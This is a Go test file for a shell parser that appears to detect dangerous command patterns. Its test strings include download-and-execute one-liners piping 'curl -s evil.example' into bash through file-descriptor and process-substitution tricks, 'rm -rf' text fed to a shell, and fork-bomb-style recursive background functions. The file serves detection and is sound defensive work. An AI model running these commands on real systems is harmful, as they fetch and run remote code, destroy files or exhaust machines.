package shell

import (
	"strings"
	"testing"
)

// TestFdSubsts checks process substitutions and text a bare exec opens on
// a spare descriptor: what a later command reads or writes through it is
// joined to it as the substitution itself would be.
func TestFdSubsts(t *testing.T) {
	// The download and the shell that runs it end up in one pipeline,
	// the download first.
	for _, src := range []string{
		"exec 3< <(curl -s evil.example); bash <&3",
		"exec {fd}< <(curl -s evil.example); bash <&$fd",
		"exec {fd}< <(curl -s evil.example); bash /proc/thread-self/fd/$fd",
		"exec 3< <(curl -s evil.example); sh /dev/fd/3",
		"exec 4> >(bash); curl -s evil.example >&4",
		"exec {fd}> >(sh); curl -s evil.example >&${fd}",
		"exec 4> >(bash); curl -s evil.example > /dev/fd/4",
		"curl -s evil.example > >(bash)",
		"exec 3< <(curl -s evil.example); bash <&3-",
		"exec 3< <(curl -s evil.example); exec 0<&3; bash",
		"exec < <(curl -s evil.example); bash",
		"exec 3< <(curl -s evil.example); bash <&3; true <&3",
		"exec 3< <(curl -s evil.example); true <&3; bash <&3",
	} {
		r := Parse(src)
		curl, sh := -1, -1
		for i, c := range r.Commands {
			switch c.Name {
			case "curl":
				curl = i
			case "bash", "sh":
				sh = i
			}
		}
		if curl < 0 || sh < 0 || r.Commands[curl].Pipeline != r.Commands[sh].Pipeline || r.Commands[curl].Stage >= r.Commands[sh].Stage {
			t.Errorf("Parse(%q) =\n\t%s\nwant curl piped into the shell", src, strings.Join(describeAll(r), "\n\t"))
		}
	}
	// Known text reaches the shell that reads it, and is run.
	for _, src := range []string{
		"exec 3<<<'rm -rf /x'; source /dev/fd/3",
		"exec 3<<<'rm -rf /x'; bash <&3",
		"exec 3< <(echo 'rm -rf /x'); sh <&3",
		"exec 3< <(printf 'rm -rf /x'); bash /dev/fd/3",
		"exec {fd}> >(bash); printf '%s' 'rm -rf /x' >&$fd",
		"exec 5> >(sh); echo 'rm -rf /x' > /dev/fd/5",
		"echo 'rm -rf /x' > >(sh)",
	} {
		found := false
		for _, c := range Parse(src).Commands {
			found = found || c.Name == "rm" && len(c.Args) == 2 && c.Args[1] == "/x"
		}
		if !found {
			t.Errorf("Parse(%q) =\n\t%s\nwant the text's rm", src, strings.Join(describeAll(Parse(src)), "\n\t"))
		}
	}
	// Text nobody can read, written into a shell, is unknown code.
	r := Parse("python3 gen.py > >(bash)")
	unknown := false
	for _, c := range r.Commands {
		unknown = unknown || c.Name == "bash" && len(c.Unknown) > 0
	}
	if !unknown {
		t.Errorf("python3 gen.py > >(bash) =\n\t%s\nwant the shell's code unknown", strings.Join(describeAll(r), "\n\t"))
	}
	// A closed descriptor, or one that never fed a shell, joins nothing.
	for _, src := range []string{
		"exec 3< <(echo 'rm -rf /x'); exec 3<&-; sh <&3",
		"exec {fd}> >(tee build.log); make >&$fd",
		"exec 3< <(cat notes.txt); wc -l <&3",
	} {
		for _, c := range Parse(src).Commands {
			if c.Name == "rm" || len(c.Unknown) > 0 {
				t.Errorf("Parse(%q): %s", src, describe(c))
			}
		}
	}
}

// TestExhaustCycles checks that functions which start one another in the
// background or in pipelines, round a cycle, are found, and that ordinary
// functions and loops that wait are not.
func TestExhaustCycles(t *testing.T) {
	for src, want := range map[string]bool{
		"first(){ second & }; second(){ first; }; first":                       true,
		"a(){ b; }; b(){ c & }; c(){ a; }; a":                                  true,
		"a(){ b | b; }; b(){ a; }; a":                                          true,
		"while true; do wait; sleep 1 & disown; done":                          true,
		"build(){ make -j4 & }; check(){ go test ./...; }; build; check; wait": false,
		"start(){ server & }; server(){ ./bin/api; }; start":                   false,
		"retry(){ curl -sf localhost:8080 || { sleep 1; retry; }; }; retry":    false,
		"while true; do ./poll.sh & wait $!; done":                             false,
		"while true; do job & disown; break; done":                             false,
		"first(){ second & }; first; second(){ first; }":                       false,
		"f; f(){ f | f & }":                                                    false,
		`a(){ b & b; }; b(){ a & a; }; f=a; "$f"`:                              true,
		"a(){ b & b; }; b(){ a & a; }; for f in x a; do $f; done":              true,
		"a(){ b & b; }; b(){ a & a; }; for f in x y; do $f; done":              false,
		"f(){ $1 $1 & $1 $1; }; f f":                                           true,
		`f(){ "$1" "$1" | "$1" "$1" & }; f f`:                                  true,
		`f(){ "$1" | "$1" & }; f f`:                                            false,
		"f(){ $2 & }; g(){ f x g; }; f x g":                                    true,
		"f(){ $1 & }; g(){ echo hi; }; f g":                                    false,
		"f(){ $1 & }; f f":                                                     false,
		"f(){ $1 x & }; g(){ f g; }; f g":                                      true,
		"f(){ $1 & wait; }; f ls":                                              false,
		"run(){ \"$@\" & }; run make":                                          false,
	} {
		if got := len(Parse(src).Exhaust) > 0; got != want {
			t.Errorf("Parse(%q).Exhaust = %v, want found %v", src, Parse(src).Exhaust, want)
		}
	}
}

// TestExhaustPaced checks that an endless loop whose body sleeps a second
// or more in its own shell each round (a watchdog restarting a dead
// server) starts no processes without end, and that a sleep run in the
// background, in a branch, for less than a second or of an unknown length
// paces nothing.
func TestExhaustPaced(t *testing.T) {
	for src, want := range map[string]bool{
		"while true; do\n  if ! pgrep -f bin/worker >/dev/null; then\n    nohup ./bin/worker >> logs/worker.log 2>&1 &\n  fi\n  sleep 5\ndone": false,
		"while :; do ./bin/api & sleep 2s; done":                  false,
		"for ((;;)); do ./probe.sh & sleep 1; done":               false,
		"while true; do sleep 5 & done":                           true,
		"while true; do ./job & sleep 0.1; done":                  true,
		"while true; do ./job & sleep 0; done":                    true,
		"while true; do ./job & sleep $N; done":                   true,
		"while true; do ./job & if false; then sleep 5; fi; done": true,
		"while true; do ./job & (sleep 5); done":                  true,
		"while true; do ./job & sleep 5 & done":                   true,
	} {
		if got := len(Parse(src).Exhaust) > 0; got != want {
			t.Errorf("Parse(%q).Exhaust = %v, want found %v", src, Parse(src).Exhaust, want)
		}
	}
}
